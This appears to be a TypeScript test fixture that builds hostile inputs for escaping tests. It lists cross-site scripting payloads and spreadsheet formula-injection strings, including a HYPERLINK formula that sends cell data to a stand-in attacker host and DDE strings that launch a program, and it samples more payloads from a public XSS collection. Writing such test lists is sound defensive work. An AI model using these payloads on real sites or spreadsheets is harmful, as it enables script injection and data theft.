import { collectedTexts } from '../../test/collection.ts';

const OWN = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  'javascript:alert(1)',
  ']]><script>alert(1)</script><![CDATA[',
  '{{constructor.constructor("alert(1)")()}}',
];

/** What spreadsheets take for formulas, also behind spaces, in full width, and as the start of a cell of its own. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Look")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  '\u200b=1+1',
  '\u00a0=1+1',
  '"=1+1',
  'a","=1+1',
  "=cmd|' /C calc'!A0",
];

const MAX_LENGTH = 160;

/** Whether a text is stored as it is where one line is asked for. */
const isOneLine = (text: string) =>
  text.isWellFormed() &&
  text.length <= MAX_LENGTH &&
  text.trim() === text &&
  text.normalize('NFC') === text &&
  !/\p{C}/u.test(text);

/** Hostile texts: all of ours, and up to `count` others from public collections. */
export function hostileTexts(random: () => number, count: number): string[] {
  const collected = collectedTexts('xss/live-in-chromium-156.json').filter(isOneLine);
  const some = collected
    .map((text) => ({ text, at: random() }))
    .toSorted((one, other) => one.at - other.at)
    .slice(0, count)
    .map(({ text }) => text);
  return [...new Set([...OWN, ...some])];
}
